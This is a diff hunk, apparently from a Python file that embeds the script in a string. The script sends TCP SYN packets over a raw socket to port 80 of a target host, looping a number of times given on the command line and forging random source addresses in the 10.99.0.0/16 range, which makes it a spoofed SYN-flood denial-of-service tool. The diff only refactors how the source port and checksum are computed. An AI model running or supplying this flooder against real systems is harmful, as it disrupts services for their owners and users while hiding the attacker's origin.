@@ -59,8 +59,10 @@ raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
 target = socket.inet_aton(sys.argv[1])
 for number in range(int(sys.argv[2])):
     source = struct.pack("!I", 0x0A630000 + random.randrange(1 << 16))
-    tcp = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), 80, number, 0, 5 << 4, 2, 65535, 0, 0)
-    tcp = tcp[:16] + struct.pack("!H", checksum(source + target + struct.pack("!HH", 6, 20) + tcp)) + tcp[18:]
+    port = random.randrange(1024, 65536)
+    tcp = struct.pack("!HHIIBBHHH", port, 80, number, 0, 5 << 4, 2, 65535, 0, 0)
+    total = checksum(source + target + struct.pack("!HH", 6, 20) + tcp)
+    tcp = tcp[:16] + struct.pack("!H", total) + tcp[18:]
     ip = struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, 6, 0) + source + target
     raw.sendto(ip + tcp, (sys.argv[1], 0))
 """
